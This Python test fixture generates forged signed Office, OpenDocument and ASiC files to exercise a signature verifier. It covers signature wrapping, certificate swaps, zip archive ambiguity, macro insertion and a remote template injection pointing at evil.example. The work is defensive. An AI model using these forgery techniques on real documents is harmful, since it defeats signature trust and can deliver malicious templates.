"""Forged Office files (G13), XML signatures (G14), OpenDocument files (G15) and ASiC containers."""

import base64
import io
import re
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator

from tests.pki import cms, xml
from tests.pki.tree import letter_docx, tree
from tests.signatures.samples import Sample


def attacks() -> Iterator[Sample]:
    """Every file."""
    for make in (_office, _office_parts, _office_archives, _open_document, _open_document_parts, _containers):
        yield from make()


def _edit(data: bytes, **changes: Callable[[bytes], bytes] | bytes) -> bytes:
    files = xml.members(data)
    for name, change in changes.items():
        files[name] = change(files[name]) if callable(change) else change
    return xml.pack(files)


def _office() -> Iterator[Sample]:
    """G13 attacks on Office packages, G14 on XML signatures."""
    person, part, sig = tree().g2_person, "word/document.xml", "_xmlsignatures/sig1.xml"
    good = xml.sign_ooxml(letter_docx(), person)

    def sample(row: str, name: str, changes: dict[str, Callable[[bytes], bytes] | bytes]) -> Sample:
        return Sample(row, name, _edit(good, **changes))

    yield sample("G13", "edited.docx", {part: lambda data: data.replace(b"1215", b"1216")})
    yield Sample("G13", "no-package-object.docx", xml.sign_ooxml(letter_docx(), person, objects=lambda _: [("idOther", "x")]))  # fmt: skip
    yield Sample("G13", "partial-manifest.docx", xml.sign_ooxml(letter_docx(), person, only={"_rels/.rels"}))
    outside = b'<Object><Manifest xmlns="' + xml.DS.encode() + b'"/></Object></Signature>'
    yield sample("G13", "manifest-outside.docx", {sig: lambda data: data.replace(b"</Signature>", outside)})
    template = (
        f'<Relationships xmlns="{xml.PACKAGE}/relationships"><Relationship Id="r" Type="{xml.REL_TYPES}/attachedTemplate" '
        'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    yield sample("G13", "template-injected.docx", {"word/_rels/document.xml.rels": template.encode()})
    second = f'<Relationship Id="rId0" Type="{xml.REL_TYPES}/officeDocument" Target="word/evil.xml"/></Relationships>'
    yield sample("G13", "second-main-part.docx", {
        "_rels/.rels": lambda data: data.replace(b"</Relationships>", second.encode()), "word/evil.xml": b"<w:document/>",
    })  # fmt: skip
    kind = b"wordprocessingml.document.main", b"wordprocessingml.template.main"
    yield sample("G13", "content-type.docx", {"[Content_Types].xml": lambda data: data.replace(*kind)})
    twin = b'<Object Id="idPackageObject"><x xmlns="urn:x"/></Object></Signature>'
    yield sample("G14", "duplicate-id.docx", {sig: lambda data: data.replace(b"</Signature>", twin)})
    hmac = b"http://www.w3.org/2000/09/xmldsig#hmac-sha1"
    yield sample("G14", "hmac.docx", {sig: lambda data: data.replace(xml.RSA_SHA256.encode(), hmac)})
    yield sample("G14", "doctype.docx", {sig: lambda data: b"<!DOCTYPE a [<!ENTITY b 'c'>]>" + data})
    for name, algorithm in (
        ("xslt", "http://www.w3.org/TR/1999/REC-xslt-19991116"),
        ("xpath", "http://www.w3.org/TR/1999/REC-xpath-19991116"),
    ):
        inner = xml.reference(f"/{part}", xml.digest(b""), transforms=f'<Transform Algorithm="{algorithm}"/>')
        objects = [("idPackageObject", f"<Manifest>{inner}</Manifest>")]
        yield Sample("G14", f"{name}.docx", xml.sign_ooxml(letter_docx(), person, objects=lambda _, o=objects: o))


def _open_document() -> Iterator[Sample]:
    """G15 attacks on OpenDocument."""
    person, sig = tree().g2_person, "META-INF/documentsignatures.xml"
    good = xml.sign_odf(xml.odt(), person)
    yield Sample("G15", "edited.odt", _edit(good, **{"content.xml": lambda data: data.replace("Biên".encode(), b"B")}))
    yield Sample("G15", "added-part.odt", _edit(good, **{"styles.xml": b"<a/>"}))
    stranger = tree().person(tree().rogue_root, key=tree().seal_key)
    trusted = base64.b64encode(person.certificate_der)
    first = b"<X509Data><X509Certificate>" + trusted + b"</X509Certificate></X509Data>"
    doubled = {sig: lambda data: data.replace(b"<KeyInfo>", b"<KeyInfo>" + first)}
    yield Sample("G15", "double-certificate.odt", _edit(xml.sign_odf(xml.odt(), stranger), **doubled))
    yield Sample("G15", "stranger.odt", xml.sign_odf(xml.odt(), tree().person(tree().rogue_root)))
    unknown = {sig: lambda data: data.replace(xml.RSA_SHA256.encode(), b"urn:unknown")}
    yield Sample("G15", "unknown-algorithm.odt", _edit(good, **unknown))
    with_macro = xml.odt(more={"Basic/script-lc.xml": b"<a/>"})
    yield Sample("G15", "macro-as-document.odt", xml.sign_odf(with_macro, person, only={"Basic/script-lc.xml"}))


_SIGNATURE = "_xmlsignatures/sig1.xml"
_MAIN_RELATIONSHIPS = "word/_rels/document.xml.rels"


def related(data: bytes, kind: str, target: str, *, more: str = "") -> bytes:
    """Add a relationship to the relationships of the main part, which may have none."""
    empty = f'<Relationships xmlns="{xml.PACKAGE}/relationships"></Relationships>'.encode()
    one = f'<Relationship Id="rAdded" Type="{kind}" Target="{target}"{more}/></Relationships>'
    return (data or empty).replace(b"</Relationships>", one.encode())


def _typed(data: bytes, declaration: str) -> bytes:
    return data.replace(b"</Types>", f"{declaration}</Types>".encode())


def _office_parts() -> Iterator[Sample]:
    """G13: parts, relationships and content types beside what is signed, and a signature that nothing leads to."""
    person = tree().g2_person
    plain, good = xml.members(letter_docx()), xml.members(xml.sign_ooxml(letter_docx(), person))
    held = good.get(_MAIN_RELATIONSHIPS, b"")

    def sample(name: str, changes: dict[str, bytes], *, without: tuple[str, ...] = ()) -> Sample:
        files = {key: value for key, value in {**good, **changes}.items() if key not in without}
        return Sample("G13", f"{name}.docx", xml.pack(files))

    types = good["[Content_Types].xml"]
    html = '<Default Extension="html" ContentType="text/html"/>'
    yield sample("chunk-added", {
        "word/chunk.html": b"<p>khac</p>", "[Content_Types].xml": _typed(types, html),
        _MAIN_RELATIONSHIPS: related(held, f"{xml.REL_TYPES}/aFChunk", "chunk.html"),
    })  # fmt: skip
    vba = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    yield sample("macros-added", {
        "word/vbaProject.bin": b"x", _MAIN_RELATIONSHIPS: related(held, vba, "vbaProject.bin"),
        "[Content_Types].xml": _typed(types, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
    })  # fmt: skip
    yield sample("settings-added", {"word/settings.xml": b"<settings/>"})
    moved = good["_rels/.rels"].replace(b"word/document.xml", b"word/other.xml")
    yield sample("main-part-moved", {"word/other.xml": good["word/document.xml"], "_rels/.rels": moved})
    outside = moved.replace(b'"word/other.xml"', b'"http://x.example/a" TargetMode="External"')
    yield sample("main-part-outside", {"_rels/.rels": outside})
    # A picture and a chunk of text under names that Office leaves unsigned, and which the text shows.
    for name, kind, declared in (
        ("docProps/thumbnail.jpeg", "image", '<Default Extension="jpeg" ContentType="image/jpeg"/>'),
        ("word/people.xml", "aFChunk", '<Override PartName="/word/people.xml" ContentType="text/html"/>'),
    ):
        target = f"/{name}"
        relationships = related(plain.get(_MAIN_RELATIONSHIPS, b""), f"{xml.REL_TYPES}/{kind}", target)
        prepared = {**plain, name: b"old", "[Content_Types].xml": _typed(plain["[Content_Types].xml"], declared),
                    _MAIN_RELATIONSHIPS: relationships}  # fmt: skip
        signed = xml.sign_ooxml(xml.pack(prepared), person, only={one for one in prepared if one != name})
        yield Sample("G13", f"{kind}-as-property.docx", _edit(signed, **{name: b"new"}))
    titled = xml.sign_ooxml(xml.with_bound_title(letter_docx(), "Tăng 10%"), person)
    yield Sample("G13", "title-changed.docx", _edit(titled, **{xml.CORE: xml.core_properties("Tăng 90%")}))
    yield Sample("G13", "title-emptied.docx", _edit(titled, **{xml.CORE: xml.core_properties("")}))
    yield sample("signature-deleted", {}, without=(_SIGNATURE,))
    yield sample("origin-deleted", {}, without=("_xmlsignatures/origin.sigs",))
    gone = tuple(one for one in good if one.startswith("_xmlsignatures/"))
    yield sample("signatures-deleted", {}, without=gone)
    origin = re.compile(rb"<Relationship [^>]*/digital-signature/origin[^>]*/>")
    yield sample("way-to-signature-deleted", {"_rels/.rels": origin.sub(b"", good["_rels/.rels"])})
    other = xml.sign_ooxml(
        _edit(letter_docx(), **{"word/document.xml": lambda data: data.replace(b"1215", b"7777")}), person
    )
    yield sample("signature-of-another-file", {_SIGNATURE: xml.members(other)[_SIGNATURE]})
    alone = good[_SIGNATURE].replace(b"idPackageObject", b"idPackageObjecX")
    yield sample("second-signature-without-package-object", {"_xmlsignatures/sig2.xml": alone})
    stranger = base64.b64encode(tree().person(tree().rogue_root).certificate_der)
    swapped = re.sub(rb"<X509Certificate>[^<]*", b"<X509Certificate>" + stranger, good[_SIGNATURE])
    yield Sample("G14", "certificate-swapped.docx", xml.pack({**good, _SIGNATURE: swapped}))
    empty = re.sub(rb"<SignatureValue>[^<]*", b"<SignatureValue>", good[_SIGNATURE])
    yield Sample("G14", "signature-empty.docx", xml.pack({**good, _SIGNATURE: empty}))


def _office_archives() -> Iterator[Sample]:
    """G13: archives in which two readers find two documents."""
    good = xml.sign_ooxml(letter_docx(), tree().g2_person)
    files, evil = xml.members(good), xml.members(letter_docx())
    evil["word/document.xml"] = evil["word/document.xml"].replace(b"1215", b"9999")
    other = xml.pack(evil)
    yield Sample("G13", "archive-before.docx", other + good)
    yield Sample("G13", "archive-behind.docx", good + other)
    yield Sample("G13", "archive-in-comment.docx", good[:-2] + len(other).to_bytes(2, "little") + other)
    hidden = b"word/nothing.xml"
    renaming = struct.pack("<HHBI", 0x7075, 5 + len(hidden), 1, zlib.crc32(b"word/document.xml")) + hidden
    for name, extra, twice in (("second-name", renaming, False), ("twice", b"", True)):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive, warnings.catch_warnings():
            warnings.simplefilter("ignore")
            if twice:
                archive.writestr("word/document.xml", evil["word/document.xml"])
            for member, data in files.items():
                info = zipfile.ZipInfo(member)
                info.extra = extra if member == "word/document.xml" else b""
                archive.writestr(info, data)
        yield Sample("G13", f"member-{name}.docx", out.getvalue())


def _open_document_parts() -> Iterator[Sample]:
    """G15: what the canonical form leaves out, what no signature lists, and a signature under another name."""
    person, sig, manifest = tree().g2_person, "META-INF/documentsignatures.xml", "META-INF/manifest.xml"
    good = xml.members(xml.sign_odf(xml.odt(), person))
    for name, declared in (
        ("attribute-default", b'<!ATTLIST text:p text:style-name CDATA "Khac">'),
        ("notation", b'<!NOTATION x SYSTEM "y">'),
        ("entity", b"<!ENTITY a 'b'>"),
    ):
        content = b"<!DOCTYPE office:document-content [" + declared + b"]>" + good["content.xml"]
        yield Sample("G15", f"{name}.odt", xml.pack({**good, "content.xml": content}))
    signed = xml.members(xml.sign_odf(xml.odt(), person, only={"content.xml"}))
    other = {manifest: signed[manifest].replace(b"opendocument.text", b"opendocument.text-master")}
    yield Sample("G15", "manifest-unsigned.odt", xml.pack({**signed, **other}))
    yield Sample("G15", "type-unsigned.odt", xml.pack({**signed, "mimetype": xml.ODF_MIMETYPE + b"-template"}))
    yield Sample("G15", "macros-added.odt", xml.pack({**good, "Basic/Standard/M.xml": b"<a/>"}))
    yield Sample("G15", "second-signature-file.odt", xml.pack({**good, "META-INF/packagesignatures.xml": good[sig]}))
    moved = {key.replace("documentsignatures", "old"): value for key, value in good.items()}
    yield Sample("G15", "signatures-renamed.odt", xml.pack(moved))
    named = b'<manifest:file-entry manifest:full-path="' + sig.encode() + b'"/></manifest:manifest>'
    unsigned = xml.members(xml.odt())
    unsigned[manifest] = unsigned[manifest].replace(b"</manifest:manifest>", named)
    yield Sample("G15", "signatures-deleted.odt", xml.pack(unsigned))


def _containers() -> Iterator[Sample]:
    """G14: manifests and objects of ASiC containers."""
    seal = tree().g2_seal
    good = xml.members(xml.asic({"a.txt": b"mot", "b.txt": b"hai"}, seal))
    yield Sample("G14", "object-changed.asice", xml.pack({**good, "a.txt": b"ba"}))
    yield Sample("G14", "object-added.asice", xml.pack({**good, "c.txt": b"ba"}))
    yield Sample("G14", "object-removed.asice", xml.pack({key: value for key, value in good.items() if key != "b.txt"}))
    yield Sample("G14", "object-in-meta-inf.asice", xml.pack({**good, "META-INF/bao-cao.pdf": b"ba"}))
    simple = xml.members(xml.asic({"a.txt": b"mot"}, seal, simple=True))
    yield Sample("G14", "second-object.asics", xml.pack({**simple, "b.txt": b"hai"}))
    kind, first = b"application/vnd.etsi.asic-e+zip", xml.asic_manifest({"a.txt": b"mot"})
    value = cms.cms(first, seal)
    held = {"mimetype": kind, "a.txt": b"mot", "META-INF/signature1.p7s": value}
    yield Sample("G14", "manifest-changed.asice", xml.pack(
        {**held, "a.txt": b"hai", "META-INF/ASiCManifest1.xml": xml.asic_manifest({"a.txt": b"hai"})}))  # fmt: skip
    yield Sample(
        "G14", "manifest-of-less.asice", xml.pack({**held, "b.txt": b"hai", "META-INF/ASiCManifest1.xml": first})
    )
    yield Sample("G14", "manifest-before-manifest.asice", xml.pack(
        {**held, "META-INF/ASiCManifest0.xml": xml.asic_manifest({"a.txt": b"mot"}, more="<x/>"), "META-INF/ASiCManifest1.xml": first}))  # fmt: skip
    yield Sample("G14", "no-manifest.asice", xml.pack({**held, "META-INF/signature1.p7s": cms.cms(b"mot", seal)}))
    yield Sample("G14", "signature-deleted.asice", xml.pack(
        {"mimetype": kind, "a.txt": b"mot", "META-INF/ASiCManifest1.xml": first}))  # fmt: skip
